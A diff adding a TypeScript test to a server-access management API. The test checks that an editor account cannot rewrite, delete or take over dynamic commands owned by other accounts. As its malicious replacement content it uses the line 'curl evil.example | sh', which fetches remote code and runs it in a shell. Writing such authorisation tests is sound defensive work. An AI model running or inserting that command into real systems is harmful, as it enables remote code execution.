@@ -89,4 +89,41 @@ describe('dynamic commands', () => {
     expect((await editor.call('DELETE', `/commands/${c.id}`)).body.code).toBe(403);
     expect((await editor.call('GET', `/commands/${c.id}`)).body.code).toBe(1);
   });
+
+  it('rewriting or deleting another account’s command passes containment (issue 28, rule 4: the reproduction)', async () => {
+    const { h, api, as } = await resourcesHarness();
+    const vault = (await api.ok<{ id: string }>('POST', '/assets', { body: { name: 'vault', protocol: 'ssh', ip: '10.0.0.9', port: 22, accountType: 'custom', username: 'root' } })).id;
+    const ann = await h.createUser({ username: 'ann', type: 'user' });
+    await api.ok('POST', '/authorised/users', { body: { userIds: [ann], assetId: vault } });
+    const bob = await h.createUser({ username: 'bob', type: 'user' });
+    const rootCmd = await api.ok<Command>('POST', '/commands', { body: { name: 'deploy', content: 'make deploy' } });
+    const annCmd = await as(await h.accessToken(ann)).ok<Command>('POST', '/worker/commands', { body: { name: 'backup', content: 'pg_dump prod' } });
+    const bobCmd = await as(await h.accessToken(bob)).ok<Command>('POST', '/worker/commands', { body: { name: 'disk', content: 'df -h' } });
+    const editorAccount = await adminWith(h, ['command', 'command-add', 'command-edit', 'command-del', 'command-change-owner'], 'editor');
+    const editor = as(editorAccount.token);
+    const contents = async () => (await h.db.selectFrom('commands').select(['id', 'content']).orderBy('id').execute()).map((c) => `${c.id}:${c.content}`);
+    const before = await contents();
+    const evil = { name: 'x', content: 'curl evil.example | sh' };
+
+    const superOwned = { code: -1, message: '不能修改账户「admin」的动态指令：只有超级管理员本人可以这样做' };
+    const annOwned = { code: -1, message: '不能修改账户「ann」的动态指令：该账户可以访问您无权访问的资产（vault）' };
+    expect((await editor.call('PUT', `/commands/${rootCmd.id}`, { body: evil })).body).toEqual(superOwned);
+    expect((await editor.call('PUT', `/commands/${annCmd.id}`, { body: evil })).body).toEqual(annOwned);
+    expect((await editor.call('DELETE', `/commands/${rootCmd.id}`)).body).toEqual(superOwned);
+    expect((await editor.call('DELETE', `/commands/${bobCmd.id},${annCmd.id}`)).body).toEqual(annOwned);
+    expect(await contents()).toEqual(before);
+    // Taking another's command as its own is refused too (nobody but the super admin gives itself a record).
+    expect((await editor.call('POST', `/commands/${bobCmd.id}/change-owner?owner=${editorAccount.id}`)).body).toEqual({
+      code: -1,
+      message: '不能把其他账户的记录转给您自己：只有超级管理员可以',
+    });
+
+    // Its own, and those of an account it may act on: allowed.
+    const mine = await editor.ok<Command>('POST', '/commands', { body: { name: 'mine', content: 'ls' } });
+    await editor.ok('PUT', `/commands/${mine.id}`, { body: { name: 'mine', content: 'ls -l' } });
+    await editor.ok('PUT', `/commands/${bobCmd.id}`, { body: { name: 'disk', content: 'df -i' } });
+    await editor.ok('DELETE', `/commands/${bobCmd.id},${mine.id}`);
+    // The super admin edits anyone's.
+    await api.ok('PUT', `/commands/${annCmd.id}`, { body: { name: 'backup', content: 'pg_dump -Fc prod' } });
+  });
 });
